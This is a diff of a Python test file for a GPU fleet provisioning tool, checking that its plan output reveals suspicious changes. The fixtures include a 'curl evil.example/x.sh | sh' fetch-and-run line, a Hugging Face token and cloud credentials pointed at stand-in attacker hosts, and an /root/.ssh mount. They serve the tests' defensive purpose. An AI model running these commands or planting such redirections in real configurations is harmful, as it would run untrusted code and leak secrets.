@@ -7,11 +7,16 @@ that cuts: far to the right, far below, among many that are alike.
 from __future__ import annotations
 
 import re
+import subprocess
 from typing import Any
 
 import pytest
 
-from tests.cli import Project, fleet, on_terminal, task, volume
+from declarative.render import plan_json, plan_text
+from declarative.state import RankState
+from tests.cli import PATIENCE, Project, fleet, on_terminal, task, volume
+from tests.model import World
+from tests.planned import GPU, bring, declared, look
 
 EVIL = "curl evil.example/x.sh | sh"
 SCRIPT = "\n".join(f"true step {i}" for i in range(12)) + "\n"
@@ -94,6 +99,11 @@ def host_of_token(documents: Documents) -> None:
     the(documents, "train")["env"]["TOKEN_URL"] = "https://${{ env.HF_TOKEN }}@hub.evil.example"
 
 
+def endpoint(documents: Documents) -> None:
+    """Where a cloud's credentials are sent."""
+    the(documents, "sky")["endpoint"] = "https://cloud.evil.example"
+
+
 def tag(documents: Documents) -> None:
     the(documents, "data")["tags"]["keep"] = "no"
 
@@ -127,6 +137,7 @@ PULL_REQUESTS = [
     (line_four, ["  -   true step 3\n", f"  +   true step 3; {EVIL}\n"]),
     (variable, [f'  + "{LONG} --hook=$({EVIL})"', f'  - "{LONG}"']),
     (host_of_token, ["@hub.good.example", "@hub.evil.example"]),
+    (endpoint, ["endpoint: https://cloud.evil.example", "OS_PASSWORD"]),
     (tag, ['tags.keep: "yes" → "no"']),
     (protection, ["prevent_destroy: true → false"]),
     (mount, ["/root/.ssh"]),
@@ -162,3 +173,91 @@ def test_a_file_that_changed_is_shown(running):
     assert "No changes." in before
     assert re.search(r"files\.digest:  # forces replacement\n +- \"\w+\"\n +\+ \"\w+\"\n", text)
     assert "1 rank restarts: running now, stopped and started again." in text
+
+
+@pytest.mark.slow
+def test_in_one_file_the_plan_comes_first(project):
+    """Output and progress of an apply, and of one that runs again what had ended: that is not stopped."""
+    project.declare(fleet(nodes=1), task("job", "true"))
+
+    def together(*args: str) -> str:
+        process = project.start("apply", "--auto-approve", *args, stderr=subprocess.STDOUT)
+        out: str = process.communicate(timeout=PATIENCE)[0]
+        return out
+
+    first = together("--wait")
+    assert first.index("Plan: ") < first.index("node/gpu-0: creating…") < first.index("Apply complete")
+    again = together("--replace", "task/job", "--wait")
+    assert again.index("Plan: ") < again.index("rank/job-0: had ended, removing its record…")
+    assert "stopping…" not in again
+    assert again.index("Apply complete") < again.index("task/job: succeeded")
+
+
+@pytest.mark.slow
+def test_the_summary_is_there_after_the_pager(project):
+    """Also where its reader left it at once."""
+    project.declare(fleet(nodes=2), task("job", "true\n" * 60))
+    env = {"FLEETFORM_PAGER": "head -1", "NO_COLOR": "1", "LINES": "20"}
+    screen = on_terminal(project, "plan", env=env)[1].replace("\r", "")
+    assert screen.startswith("Cost: 0.00 USD/h")
+    assert screen.endswith("Plan: 4 to create, 0 to update, 0 to delete, 0 to replace.\n")
+    assert len(screen.splitlines()) == 3
+
+
+# ------------------------------------------------------------------------------------ what the planner says
+
+JOB = {"name": "job", "nodes": 2, "resources": {"gpu": 8}}
+DATA = {"name": "data", "backend": "sky", "region": "east", "size": "1GB"}
+
+
+def test_ranks_that_run_restart_and_ended_ones_do_not():
+    """Where they keep their blocks as well; `status` says what becomes of those."""
+    world = bring(World(), tasks=[JOB])
+    found = look(world, tasks=[{**JOB, "commands": ["other"]}])
+    assert [(r["status"], r["restart"]) for r in found["reservations"]] == [("kept", True)] * 2
+    assert found["summary"] == {"create": 0, "update": 0, "delete": 0, "replace": 2, "restarts": 2}
+    for rank in ("job-0", "job-1"):
+        world.end(rank, RankState.SUCCEEDED)
+    found = look(world, tasks=[{**JOB, "commands": ["other"]}])
+    assert [r["restart"] for r in found["reservations"]] == [False, False]
+    assert found["summary"]["restarts"] == 0
+
+
+def test_a_new_node_is_not_called_replaced():
+    """A rank moves to it, and that is why its blocks change."""
+    fleets = [{**GPU, "nodes": 1}, {**GPU, "name": "other", "nodes": "0..1"}]
+    job = {"name": "job", "resources": {"gpu": 8}}
+    world = bring(World(), fleets=fleets, tasks=[{**job, "fleets": ["gpu"]}])
+    moved = world.plan(declared(fleets=fleets, tasks=[{**job, "fleets": ["other"]}]))
+    text = plan_text(moved, color=False, width=None)
+    assert "node/other-0 is replaced" not in text
+    assert "-/+ reservation/job-0  # `node` changed" in text
+    assert "status\n" in text
+    assert plan_json(moved)["summary"]["restarts"] == 1
+
+
+def test_the_cost_says_that_volumes_are_not_in_it():
+    """On this machine and on hosts that exist they cost nothing."""
+    tasks = [{"name": "job", "resources": {"gpu": 8}}]
+    assert look(World(), tasks=tasks, volumes=[DATA])["cost"]["excludes"] == []
+    cloud: Any = {"driver": "openstack", "endpoint": "https://x.example"}
+    found = World().plan(declared(tasks=tasks, volumes=[DATA], **cloud))
+    assert plan_json(found)["cost"]["excludes"] == ["volumes"]
+    assert "USD/h; volumes not included\n" in plan_text(found, color=False, width=None)
+    assert look(World(), tasks=tasks, **cloud)["cost"]["excludes"] == []
+
+
+def test_what_an_unplaced_task_would_run_is_shown():
+    """A later apply may start it with nobody looking; so may one beside it that looks alike."""
+    late = {"resources": {"gpu": 9}, "commands": ["true"]}
+    tasks = [{**late, "name": f"late-{i}"} for i in range(3)]
+    tasks[1] = {**tasks[1], "commands": [EVIL]}
+    plan = World().plan(declared(tasks=tasks))
+    text = plan_text(plan, color=False, width=None)
+    assert "task/late-[0-2][never-fits]: 3 tasks alike" in text
+    assert "  + task/late-1  # not started: no place\n      resources: {gpu: 9}\n" in text
+    assert f"        - {EVIL}\n" in text
+    assert plan_json(plan)["unplaced"][1]["after"]["commands"] == [EVIL]
+    world = bring(World(), tasks=[JOB])
+    stuck = world.plan(declared(tasks=[{**JOB, "nodes": 3, "commands": [EVIL]}]))
+    assert f"        + {EVIL}\n" in plan_text(stuck, color=False, width=None)
